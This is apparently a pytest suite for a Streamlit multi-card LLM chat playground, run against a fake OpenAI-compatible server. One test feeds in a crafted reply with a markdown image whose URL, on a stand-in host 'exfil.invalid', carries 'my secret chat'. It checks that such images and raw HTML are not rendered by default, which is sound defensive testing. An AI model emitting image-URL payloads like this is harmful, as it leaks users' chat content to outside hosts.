"""The whole journey through the page, with AppTest, over real HTTP."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from playground.workspace.types import Message
from tests.fake_openai import FakeOpenAIServer
from tests.helpers import (
    assert_cards_drawn,
    cards,
    endpoints_toml,
    error_texts,
    key,
    new_app,
    scenario_name,
    send_synced,
    send_to_card,
    state,
    sync_off,
)

Config = Callable[..., Path]
MakeScenario = Callable[..., str]


def test_opens_with_two_cards_bound_to_the_first_endpoint(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(endpoints_toml(Alpha=scenario(models=["m1", "m2"]), Beta=scenario()))
    at = new_app()
    assert len(cards(at)) == 2
    endpoint_boxes = [s for s in at.selectbox if s.label == "Endpoint"]
    model_boxes = [s for s in at.selectbox if s.label == "Model"]
    assert [s.value for s in endpoint_boxes] == ["Alpha", "Alpha"]
    assert [s.options for s in model_boxes] == [["m1", "m2", "Custom"]] * 2
    assert [s.value for s in model_boxes] == ["m1", "m1"]


def test_add_card_then_remove_one_after_confirmation(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    at.button(key="add_card").click().run()
    assert len(cards(at)) == 3
    third = cards(at)[2]
    assert any("will be deleted" in w.value for w in at.warning)
    at.button(key=key(third, "remove")).click().run()
    assert [c.id for c in cards(at)] != [] and third.id not in [c.id for c in cards(at)]
    assert len(cards(at)) == 2
    assert_cards_drawn(at)


def test_last_card_cannot_be_removed(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    at.button(key=key(cards(at)[1], "remove")).click().run()
    assert len(cards(at)) == 1
    only = cards(at)[0]
    assert not [b for b in at.button if b.key == key(only, "remove")]
    assert any("last card cannot be removed" in c.value for c in at.caption)


def test_add_button_is_disabled_at_the_cap(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario()) + "\n[limits]\nmax_cards = 3\n")
    at = new_app()
    at.button(key="add_card").click().run()
    assert len(cards(at)) == 3
    assert at.button(key="add_card").disabled


def test_sync_off_only_the_card_used_answers(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    first, second = cards(at)
    send_to_card(at, first, "only me")
    assert [m.content for m in first.messages] == ["only me", "[fake-small] turn 1: only me"]
    assert second.messages == []
    assert not at.exception


def test_delete_chat_history_empties_only_that_card(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    send_synced(at, "hi all")
    first, second = cards(at)
    assert len(first.messages) == 2 and len(second.messages) == 2
    at.button(key=key(first, "clear")).click().run()
    first, second = cards(at)
    assert first.messages == []
    assert len(second.messages) == 2
    assert first.config.endpoint == "Alpha" and first.config.model == "fake-small"
    assert_cards_drawn(at)


def test_sync_on_every_card_streams_at_the_same_time(
    write_config: Config, scenario: MakeScenario, server: FakeOpenAIServer
) -> None:
    url = scenario(tokens=20, tokens_per_second=20)  # each answer takes about 1 s
    write_config(endpoints_toml(Alpha=url))
    at = new_app()
    at.button(key="add_card").click().run()
    send_synced(at, "race")
    assert all(c.messages[-1].status == "done" for c in cards(at))
    assert all(c.messages[-1].content.startswith("[fake-small] turn 1: race") for c in cards(at))
    streams = [s for s in server.streams if s.scenario == scenario_name(url)]
    assert len(streams) == 3
    # All three streams overlapped in time: each started before any ended.
    assert max(s.started for s in streams) < min(s.ended or 0 for s in streams)
    # Each card rendered its own answer.
    assistant_bubbles = [m for m in at.chat_message if m.name == "assistant"]
    assert len(assistant_bubbles) == 3


def test_answers_show_their_figures(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario(tokens=10)))
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    send_to_card(at, cards(at)[0], "figures")
    captions = [
        c.value
        for m in at.chat_message
        if m.name == "assistant"
        for c in m.caption
        if not c.value.startswith("The answer's Markdown")
    ]
    assert len(captions) == 1
    assert "first token" in captions[0] and "total" in captions[0]
    assert "14 tokens" in captions[0] and "≈" not in captions[0]
    assert "tok/s" not in captions[0]  # an instant burst: too short to measure a rate


def test_a_server_without_usage_is_remembered(
    write_config: Config, scenario: MakeScenario, server: FakeOpenAIServer
) -> None:
    url = scenario(tokens=2, reject_stream_options=True)
    write_config(endpoints_toml(Alpha=url))
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    send_to_card(at, cards(at)[0], "one")
    send_to_card(at, cards(at)[0], "two")
    bodies = [r.body or {} for r in server.chat_requests(scenario_name(url))]
    assert ["stream_options" in b for b in bodies] == [True, False, False]
    assert cards(at)[0].messages[-1].metrics.tokens_estimated  # type: ignore[union-attr]
    assert any("≈6 tokens" in c.value for c in at.caption)


def test_one_failing_card_does_not_affect_the_others(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(endpoints_toml(Good=scenario(), Broken=scenario(chat_status=500)))
    at = new_app()
    first, second = cards(at)
    at.selectbox(key=key(second, "endpoint")).set_value("Broken").run()
    send_synced(at, "hello")
    first, second = cards(at)
    assert not at.exception
    assert first.messages[-1].status == "done"
    assert second.messages[-1].status == "error"
    assert second.messages[0].content == "hello"  # the prompt is kept
    assert any("500" in e and "server failed" in e for e in error_texts(at))
    # The next turn still works in both: the failed card can retry.
    send_synced(at, "again")
    assert cards(at)[0].messages[-1].content == "[fake-small] turn 2: again"


def test_model_list_falls_back_to_custom_with_a_reason(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(endpoints_toml(Locked=scenario(token="needed")))
    at = new_app()
    model_boxes = [s for s in at.selectbox if s.label == "Model"]
    assert model_boxes[0].options == ["Custom"]
    assert any("401" in c.value and "Using Custom" in c.value for c in at.caption)
    # Custom's fields are shown, prefilled with the endpoint's URL.
    urls = [t for t in at.text_input if t.label == "baseURL"]
    assert len(urls) == 2 and urls[0].value.endswith("/v1")


def test_custom_validates_base_url_then_chats(
    write_config: Config, scenario: MakeScenario, server: FakeOpenAIServer
) -> None:
    url = scenario(token="sesame")
    write_config("")  # no endpoints at all: cards start on Custom
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    assert any("No endpoint is configured yet" in i.value for i in at.info)
    first = cards(at)[0]
    at.text_input(key=key(first, "base_url")).set_value("localhost:8000/v1").run()
    assert any("must start with http://" in e for e in error_texts(at))
    at.text_input(key=key(first, "base_url")).set_value(url + "/chat/completions").run()
    assert not error_texts(at)
    at.text_input(key=key(first, "model_id")).set_value("fake-large").run()
    at.text_input(key=key(first, "token")).set_value("sesame").run()
    send_to_card(at, first, "custom hello")
    first = cards(at)[0]
    assert first.messages[-1].content == "[fake-large] turn 1: custom hello"
    assert server.chat_requests(scenario_name(url))[-1].authorization == "Bearer sesame"


def test_custom_without_model_id_keeps_prompt_and_explains(write_config: Config) -> None:
    write_config("")
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    first = cards(at)[0]
    at.text_input(key=key(first, "base_url")).set_value("http://127.0.0.1:9/v1").run()
    send_to_card(at, first, "lost?")
    first = cards(at)[0]
    assert first.messages[0].content == "lost?"
    assert any("Model ID is required" in e for e in error_texts(at))


def test_whitespace_prompt_is_ignored(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    send_to_card(at, cards(at)[0], "   \n ")
    assert cards(at)[0].messages == []


def test_config_problems_are_listed_and_valid_entries_used(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(
        endpoints_toml(Good=scenario()) + '\n[[endpoints]]\nname = "Bad"\nbase_url = "nope"\n'
    )
    at = new_app()
    assert any("Config problems (1)" in e.label for e in at.expander)
    assert next(s.options for s in at.selectbox if s.label == "Endpoint") == ["Good"]


def test_endpoints_page_lists_sources_models_and_health(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(
        endpoints_toml(Up=scenario(models=["a", "b", "c"]), Down=scenario(models_status=503))
    )
    at = new_app()
    at.switch_page("pages/endpoints.py").run()
    assert not at.exception
    frame = at.dataframe[0].value
    rows = {r["Endpoint"]: r for r in frame.to_dict("records")}
    assert rows["Up"]["Models"] == 3 and rows["Up"]["Answers"] == "yes"
    assert rows["Up"]["Source"] == "playground.toml"
    assert rows["Down"]["Answers"] == "no" and "503" in rows["Down"]["Details"]


def test_cards_wrap_into_rows(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    at.button(key="add_card").click().run()
    assert len(cards(at)) == 3
    assert len(at.columns) == 4  # two rows of two columns
    at.slider(key="cards_per_row").set_value(1).run()
    assert state(at).workspace.cards_per_row == 1
    assert len(at.columns) == 3  # three rows of one


def test_long_histories_show_recent_turns_and_unfold_on_request(
    write_config: Config, scenario: MakeScenario
) -> None:
    write_config(endpoints_toml(Alpha=scenario()))
    at = new_app()
    first = cards(at)[0]
    for i in range(50):
        first.messages.append(Message(role="user", content=f"question {i}"))
        first.messages.append(Message(role="assistant", content=f"answer {i}"))
    at.run()
    bubbles = list(at.chat_message)
    assert len(bubbles) == 12
    assert bubbles[0].markdown[0].value == "question 44"
    at.button(key=key(first, "unfold")).click().run()
    assert_cards_drawn(at)
    assert len(at.chat_message) == 100
    assert at.chat_message[0].markdown[0].value == "question 0"
    at.button(key=key(first, "fold")).click().run()
    assert len(at.chat_message) == 12
    assert_cards_drawn(at)


def test_prompt_sent_with_an_edit_uses_the_edited_fields(
    write_config: Config, scenario: MakeScenario
) -> None:
    """Typing a Model ID and sending in the same interaction uses the new Model ID."""
    url = scenario()
    write_config("")
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    first = cards(at)[0]
    at.text_input(key=key(first, "base_url")).set_value(url)
    at.text_input(key=key(first, "model_id")).set_value("fake-large")
    at.chat_input(key=key(first, "input")).set_value("together").run()
    assert cards(at)[0].messages[-1].content == "[fake-large] turn 1: together"


def test_images_in_answers_are_not_loaded_unless_allowed(
    write_config: Config, scenario: MakeScenario
) -> None:
    crafted = "Look: ![chart](http://exfil.invalid/?q=my+secret+chat) and <b>bold</b>"
    write_config(endpoints_toml(Alpha=scenario(reply=crafted)))
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    first = cards(at)[0]
    send_to_card(at, first, "show me")
    answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
    assert "![" not in answer.replace("\\![", "")
    assert "(image not loaded\\)](<http://exfil.invalid/?q=my+secret+chat>)" in answer
    assert "\\<b\\>bold" in answer  # raw HTML shown as text
    assert cards(at)[0].messages[-1].content == crafted  # the history keeps the original
    assert at.markdown[0].proto.allow_html is False  # raw HTML is never rendered
    at.button(key=key(first, "images")).click().run()
    answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
    assert "![chart](<http://exfil.invalid/?q=my+secret+chat>)" in answer


def test_a_200_kb_prompt_goes_through(write_config: Config, scenario: MakeScenario) -> None:
    write_config(endpoints_toml(Alpha=scenario(chunk_chars=8192)))
    at = new_app()
    sync_off(at)  # the first page opens synced; this test types into one card
    prompt = "x" * 200_000
    send_to_card(at, cards(at)[0], prompt)
    answer = cards(at)[0].messages[-1]
    assert answer.status == "done"
    assert answer.content == f"[fake-small] turn 1: {prompt}"
